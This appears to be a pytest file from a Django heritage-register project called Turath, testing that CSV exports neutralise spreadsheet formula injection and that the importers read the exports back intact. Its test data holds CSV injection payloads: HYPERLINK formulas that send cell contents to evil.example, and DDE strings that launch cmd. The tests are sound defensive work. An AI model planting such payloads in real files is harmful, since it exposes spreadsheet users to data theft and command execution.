"""CSV formula injection: every CSV Turath writes neutralises cells a spreadsheet would evaluate
(OWASP: a leading quote), numbers stay numbers, and Turath's importers read its exports back intact."""

import csv
import io

import pytest

from turath.core.csvsafe import escape_cell, unescape_cell
from turath.register import exporter, importer
from turath.register.models import CulturalObject
from turath.register.tests.factories import make_object

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_quoted_and_read_back(text):
    assert escape_cell(text) == "'" + text
    assert unescape_cell(escape_cell(text)) == text


@pytest.mark.parametrize("value", ["-500", "-1.5", "12", "Stèle =", "'quoted", "", 7, -3500, None])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert escape_cell(value) == value
    if isinstance(value, str):
        assert unescape_cell(escape_cell(value)) == value


@pytest.mark.parametrize("text", ["'=1+1", "''@x", "'-y"])
def test_text_that_already_looks_escaped_survives_the_round_trip(text):
    assert escape_cell(text) == "'" + text
    assert unescape_cell(escape_cell(text)) == text


@pytest.mark.django_db
def test_register_export_neutralises_formulas_and_reimports_them_intact(users, tmp_path):
    editor = users["eg_ministry_editor"]
    title = '=HYPERLINK("http://evil.example/steal?"&B2,"Voir la fiche")'
    make_object(editor, "EG-CSV-1", title=title, lang="fr", maker="@Ali", place_of_origin="-Fayoum",
                current_holder="+20 2 1234", description={"lang": "fr", "text": "=SUM(A1:A9)"})
    path = tmp_path / "export.csv"
    with open(path, "w", encoding="utf-8", newline="") as out:
        assert exporter.export(editor, "csv", out) == 1
    with open(path, encoding="utf-8", newline="") as fh:
        row = next(csv.DictReader(fh))
    # What a spreadsheet reads: no cell starts with a formula character.
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
    assert row["title"] == "'" + title and row["maker"] == "'@Ali" and row["place_of_origin"] == "'-Fayoum"
    assert row["current_holder"] == "'+20 2 1234" and row["description"] == "'=SUM(A1:A9)"
    # Turath's own importer reads the export back as the record was.
    CulturalObject.objects.all().delete()
    report = importer.import_file(path, editor)
    assert report.ok and report.created == 1, report.as_text()
    obj = CulturalObject.objects.get()
    assert obj.title["text"] == title and obj.maker == "@Ali" and obj.place_of_origin == "-Fayoum"
    assert obj.current_holder == "+20 2 1234" and obj.description["text"] == "=SUM(A1:A9)"


@pytest.mark.django_db
def test_at_risk_categories_export_keeps_negative_years_numeric(users):
    from turath.matching import screening
    from turath.matching.models import RiskCategory

    RiskCategory.objects.create(code="x-1", name_en="=HYPERLINK(\"http://evil\")", name_fr="Tablettes",
                                name_ar="ألواح", period_from=-3500, period_to=-500, regions=["IQ"], indicators=[])
    row = next(csv.DictReader(io.StringIO(screening.export_categories_csv())))
    assert row["name_en"] == "'=HYPERLINK(\"http://evil\")"
    assert (row["period_from"], row["period_to"]) == ("-3500", "-500")
    screening.import_categories_csv(screening.export_categories_csv())
    assert RiskCategory.objects.get(code="x-1").name_en == "=HYPERLINK(\"http://evil\")"
